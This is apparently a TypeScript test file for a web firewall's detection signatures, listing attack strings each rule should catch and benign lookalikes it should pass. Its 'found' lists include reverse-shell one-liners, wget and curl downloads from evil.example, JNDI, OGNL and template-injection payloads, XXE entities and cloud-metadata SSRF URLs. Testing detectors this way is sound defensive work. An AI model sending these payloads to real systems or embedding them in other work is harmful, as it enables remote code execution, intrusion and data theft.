// What the signatures of `rce`, `php`, `gen` and `java` are found in, and what is close to it and ordinary.
import { describe } from "node:test";
import { testSignatures } from "../../../test/signatures.ts";
import { CRS } from "./sets.ts";

describe("rce", () => {
  testSignatures(CRS.rce, {
    rce_file_command: {
      found: ["x; cat /etc/hosts", "8.8.8.8|ls -la ~", "`rm -rf /*`", "a && chmod 777 ./x"],
      notFound: ["the cat /dog/", "a; cat and dog", "salt & less sugar", "R&D; head of ls"],
    },
    rce_download: {
      found: ["x;wget http://evil.example/a.sh", "$(curl -s https://evil.example)", "`curl 192.0.2.1/x`"],
      notFound: ["curl https://example.com", "fetch & carry", "; wget is a program"],
    },
    rce_who: {
      found: ["a;whoami", "$(id)", "1 && id", "x|uname -a", "`id`"],
      notFound: ["name|id", "sort=name;id", "whoami", "a & uname", "x || idle"],
    },
    rce_shell: {
      found: ["/bin/sh", "/cgi-bin/.%2e/%2e%2e/bin/bash", "%2fbin%2fzsh -c"],
      notFound: ["/bin/sheets", "/cabin/sh", "/bin/date"],
    },
    rce_reverse_shell: {
      found: [
        "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
        "nc -e /bin/sh 192.0.2.1 4444",
        "rm /tmp/f;mkfifo /tmp/f",
        "ncat -v -e /bin/bash x",
      ],
      notFound: ["/dev/null", "bash -i", "nc -z example.com 80", "the file /dev/tcp"],
    },
    rce_function_header: {
      found: ["() { :;}; /bin/id", "() { x; }; echo"],
      notFound: ["Mozilla/5.0 (X11)", "function () { return 1; };", "()"],
    },
    rce_windows: {
      found: ["powershell -nop -w hidden -c x", "cmd.exe /c dir", "powershell.exe -EncodedCommand SQBFAFgA"],
      notFound: ["powershell is a shell", "powershell -file a.ps1", "cmd+c copies", "cmd /help"],
    },
    rce_field_separator: {
      found: ["cat${IFS}/etc/hosts", "cat$IFS$9x"],
      notFound: ["$ifso", "ifs and buts", "{ifs}"],
    },
  });
});

describe("php", () => {
  testSignatures(CRS.php, {
    php_tag: {
      found: ["<?php system(1);", "<?= $x ?>"],
      notFound: ['<?xml version="1.0"?>', "<?phpx", "a <? b"],
    },
    php_stream: {
      found: ["php://filter/convert.base64-encode/resource=index", "PHP://INPUT"],
      notFound: ["php://", "http://php.example/input", "php:filter"],
    },
    php_function: {
      found: ["shell_exec('id')", "x;phpinfo();", "call_user_func_array ("],
      notFound: ["what is phpinfo", "my_shell_exec('x')", "popen(1)", "base64 decode(x)"],
    },
    php_superglobal: {
      found: ["$_GET['cmd']", "$_SERVER [0]", "$_POST{x}"],
      notFound: ["$_get", "_GET['a']", "$_other['a']"],
    },
    php_object: {
      found: ['O:8:"stdClass":1:{s:1:"a";i:1;}', 'a=O:4:"User":0:{}', "O%3A8%3A%22stdClass%22%3A0%3A%7B"],
      notFound: ['{"o":"8"}', 'a:1:{i:0;s:1:"a";}', 'O:8:"std class":1:{'],
    },
    php_setting: {
      found: ["-d allow_url_include=1", "auto_prepend_file"],
      notFound: ["allow_url", "auto_prepend_files"],
    },
    php_invoke: {
      found: ["index/\\think\\app/invokefunction", "think\\Container/invokefunction"],
      notFound: ["i think app", "think/app", "/invokefunctions"],
    },
  });
});

describe("gen", () => {
  testSignatures(CRS.gen, {
    gen_null: { found: ["a\0b", "x%00.jpg"], notFound: ["a%20b", "0x00", "100%0"] },
    gen_line_break: {
      found: ["x\r\nSet-Cookie: a=b", "x%0d%0aLocation:%20https://evil.example", "a\r\nHTTP/1.1 200 OK"],
      notFound: ["first\r\nsecond", "content-type: text/plain", "My location:\nhere", "x\nHTTP/1.1 is old"],
    },
    gen_transfer_encoding: {
      found: ["chunked, identity", "xchunked", "\x0bchunked", '"chunked"', ", ,chunked"],
      notFound: ["chunked", "gzip, chunked", "Chunked"],
    },
    gen_content_length: { found: ["+5", "5, 5", "0x10"], notFound: ["0", "1024"] },
    gen_host: {
      found: ["example.com/path", "a@b", "a|b.example", "x<script>"],
      notFound: ["example.com:8080", "[2001:db8::1]:443", "a_b.example.com", "xn--bcher-kva.example"],
    },
    gen_ranges: {
      found: [`bytes=${"0-1,".repeat(12)}5-`, `bytes=0-${",5-1".repeat(20)}`],
      notFound: ["bytes=0-1023", "bytes=0-1,5-6,9-", "bytes=-500"],
    },
    gen_method: { found: ["TRACE", "DEBUG", "TRACK"], notFound: ["GET", "TRACKER", "QUERY"] },
    gen_prototype: {
      found: ["__proto__[admin]", '{"__proto__":{"a":1}}', "constructor[prototype][x]", "a.constructor.prototype.b"],
      notFound: ["proto", "constructor", "the prototype of the constructor", "__prototype__"],
    },
    gen_node: {
      found: [
        "process.mainModule.require('child_process')",
        "require('child_process').execSync('id')",
        '{"rce":"_$$ND_FUNC$$_function(){}"}',
        "process.binding('fs')",
      ],
      notFound: ["process.main", "the child_process module", "processing.binding(", "child process exec"],
    },
    gen_template: {
      found: ["{{7*7}}", "${7*7}", "<%= 7 * 7 %>", "{{''.__class__.__mro__}}", "#{7*7}", "*{8*8}"],
      notFound: ["{{name}}", "${price}", "{{ user.class }}", "7*7", "{{count * 2}}"],
    },
    gen_metadata: {
      found: [
        "http://169.254.169.254/latest/meta-data/iam",
        "http://metadata.google.internal/computeMetadata/v1",
        "http://2852039166/",
        "http://[fd00:ec2::254]/",
      ],
      notFound: ["169.254.1.1", "1169.254.169.2541", "metadata.google.com", "latest metadata"],
    },
    gen_scheme: {
      found: ["gopher://127.0.0.1:6379/_x", "file:///etc/hosts", "ldap://x.example/a", "jar:https://x.example!/"],
      notFound: ["https://example.com", "see file:///a", "dict:word", "file://"],
    },
    gen_entity: {
      found: [
        '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hosts">]>',
        "<!ENTITY % y PUBLIC 'a' 'http://evil.example/x.dtd'>",
      ],
      notFound: ['<!ENTITY copy "&#169;">', "<!DOCTYPE html>", "entity x system"],
    },
  });
});

describe("java", () => {
  testSignatures(CRS.java, {
    java_lookup: {
      found: ["${jndi:ldap://evil.example/a}", "$%7bjndi:rmi", "%24%7Bjndi%3Aldap"],
      notFound: ["jndi:ldap", "${jndiName}", "{jndi:x}"],
    },
    java_hidden_lookup: {
      found: ["${${lower:j}ndi:ldap://x}", "${${::-j}${::-n}di:x}", "${j${env:NOTHING:-n}di:x}", "${${sys:x}}"],
      notFound: ["${a}${b}", "${outer:${inner}}", "${a ${lower}}"],
    },
    java_class_loader: {
      found: ["class.module.classLoader.resources.context", "class['classLoader']", "a.class.classLoader"],
      notFound: ["classloader", "class.name", "subclass classloader", "my_class.classloaders"],
    },
    java_expression: {
      found: [
        "%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
        "T(java.lang.Runtime).getRuntime().exec('id')",
        "${@java.lang.Runtime@getRuntime()}",
        "new java.lang.ProcessBuilder({'id'}).start()",
      ],
      notFound: ["java.lang.RuntimeException: no", "at java.lang.Thread.run", "getRuntime()", "#member"],
    },
    java_object: {
      found: ["rO0ABXNyABFqYXZhLnV0aWw=", "session=rO0ABXcEAAAAAA", "aced00057372001164"],
      notFound: ["hero0abxyz1234", "rO0ABX", "aced0005"],
    },
    java_gadget: {
      found: [
        '{"@type":"com.sun.rowset.JdbcRowSetImpl"}',
        "org.apache.commons.collections.functors.InvokerTransformer",
        '<object class="java.lang.ProcessBuilder">',
      ],
      notFound: ["org.apache.commons.collections.map", "java.beans.XMLDecoder", "com.sun.rowset"],
    },
    java_inside: {
      found: ["/WEB-INF/web.xml", "../META-INF/MANIFEST.MF", "/;/WEB-INF/"],
      notFound: ["/web-info/", "/web-inf.html", "/a-web-inf/x"],
    },
  });
});
